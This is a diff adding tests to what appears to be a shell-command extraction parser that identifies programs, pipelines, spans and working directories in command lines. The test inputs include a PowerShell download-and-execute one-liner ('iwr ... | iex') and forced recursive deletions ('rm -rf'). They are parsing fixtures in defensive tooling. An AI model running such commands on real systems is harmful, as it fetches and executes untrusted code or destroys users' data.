@@ -51,6 +51,17 @@ describe('shell extraction', () => {
     assert.equal(rm.elevated, true);
   });
 
+  it('spans inside a PowerShell string met in a bash line point at the right characters', () => {
+    const line = 'pwsh -c "iwr https://x.io/a.ps1 | iex"';
+    const iex = extractCommands(line).commands.find((c) => c.program === 'invoke-expression')!;
+    assert.equal(line.slice(iex.span.start, iex.span.end), 'iex');
+    assert.equal(iex.pipeline?.previous[0]?.program, 'invoke-webrequest');
+  });
+
+  it('a backslash right after a newline starts a new command, as in bash', () => {
+    assert.deepEqual(run('true\n\\rm -rf /x'.replace(/\\n/g, '\n')), ['true', 'rm -rf /x']);
+  });
+
   it('cd earlier in the line sets the directory of later commands', () => {
     const rm = extractCommands('cd /tmp && rm -rf ./*').commands.find((c) => c.program === 'rm')!;
     assert.equal(rm.cwd, '/tmp');
